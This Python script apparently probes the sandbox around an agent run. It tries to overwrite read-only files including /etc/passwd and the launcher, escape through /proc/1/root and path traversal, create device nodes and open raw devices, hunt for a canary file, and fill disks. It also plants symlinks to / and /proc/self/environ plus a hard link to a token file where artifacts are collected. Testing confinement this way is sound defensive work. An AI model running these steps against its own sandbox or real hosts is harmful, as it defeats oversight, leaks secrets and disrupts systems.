"""Writes where a run must not, makes links and devices, and looks for canaries. Standard library only."""

import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path

from attack.programs.own import tell

READ_ONLY = (
    "/usr/bin/env",
    "/opt/cli",
    "/run/files/mcp.json",
    "/etc/passwd",
    "/skill/attack/programs/own.py",
    "/run/launcher.py",
)
SEARCHED = ("/work", "/home", "/tmp", "/run", "/etc", "/dev/shm", "/var", "/mnt", "/srv", "/opt/cli.d")
NODES = {
    "mem": (stat.S_IFCHR, 1, 1),
    "kmsg": (stat.S_IFCHR, 1, 11),
    "disk": (stat.S_IFBLK, 254, 0),
    "sda": (stat.S_IFBLK, 8, 0),
}
DEVICES = (
    "mem",
    "kmem",
    "port",
    "kmsg",
    "fuse",
    "kvm",
    "vda",
    "sda",
    "loop0",
    "net/tun",
    "vhost-net",
    "mapper/control",
)


def outcome(action: Callable[..., object], *arguments: object) -> str:
    """Do something and say what it came to."""
    try:
        action(*arguments)
    except OSError as error:
        return os.strerror(error.errno or 0)
    return "succeeded"


def write(outside: str) -> None:
    """Overwrite what is read-only, and write outside."""
    for path in (*READ_ONLY, outside, f"/proc/1/root{outside}", f"/work/../..{outside}"):
        tell(f"write {path}", outcome(os.open, path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))
        tell(f"remove {path}", outcome(Path(path).unlink))
        tell(f"chmod {path}", outcome(Path(path).chmod, 0o777))
    tell("mkdir", outcome(os.makedirs, outside))


def nodes() -> None:
    """Make device nodes, and open devices that may be there."""
    for name, (kind, major, minor) in NODES.items():
        for folder in ("/work", "/tmp", "/dev", "/dev/shm"):
            path = f"{folder}/node-{name}"
            tell(f"mknod {path}", outcome(os.mknod, path, kind | 0o666, os.makedev(major, minor)))
    for name in DEVICES:
        tell(f"device {name}", outcome(os.open, f"/dev/{name}", os.O_RDWR))


def search(*canary_parts: str) -> None:
    """Look for a canary in every file that can be read."""
    wanted, seen = "".join(canary_parts).encode(), 0
    for top in SEARCHED:
        for folder, _, names in os.walk(top):
            for name in names:
                path = Path(folder, name)
                try:
                    if path.is_file() and path.stat().st_size < 5_000_000:
                        seen += 1
                        if wanted in path.read_bytes():
                            print("found", path)
                except OSError:
                    continue
    tell("search", f"{seen > 0} and done")


def artifacts(target: str) -> None:
    """Leave links, pipes, sockets and odd names where artifacts are taken from."""
    import socket

    folder = Path("/work/artifacts")
    folder.mkdir()
    (folder / "mine.txt").write_text("mine")
    (folder / "canary").symlink_to(target)
    (folder / "relative").symlink_to("../" * 20 + target.lstrip("/"))
    (folder / "root").symlink_to("/")
    (folder / "self").symlink_to("/proc/self/environ")
    os.mkfifo(folder / "pipe")
    socket.socket(socket.AF_UNIX).bind(str(folder / "socket"))
    tell("hard link", outcome(os.link, "/run/files/mcp.json", folder / "tokens"))
    (folder / "..hidden\n\x1b[2Jname").write_text("odd name")
    deep = folder
    for _ in range(40):
        deep = deep / "a"
        deep.mkdir()
    (deep / "bottom").write_text("deep")
    for number in range(3000):
        (folder / f"many-{number:04}").touch()
    tell("artifacts", "left")


def folder() -> None:
    """Make the folder of artifacts a link to the root."""
    Path("/work/artifacts").symlink_to("/")
    tell("folder", "linked" if Path("/work/artifacts/etc/passwd").exists() else "no")


def fill() -> None:
    """Fill every place that can be written, and empty it again."""
    for top in ("/tmp", "/dev/shm", "/work", os.environ["HOME"]):
        path, written = Path(top, "flood"), 0
        try:
            with path.open("wb", buffering=0) as file:
                while written < 2_000:
                    file.write(bytes(1 << 20))
                    written += 1
            said = "granted"
        except OSError as error:
            said = os.strerror(error.errno or 0)
        path.unlink()
        tell(f"fill {top}", f"{written} MB, {said}")


def main(what: str, *arguments: str) -> None:
    """Do one of it."""
    ways: dict[str, Callable[..., None]] = {
        "write": write,
        "nodes": nodes,
        "search": search,
        "artifacts": artifacts,
        "folder": folder,
        "fill": fill,
    }
    ways[what](*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
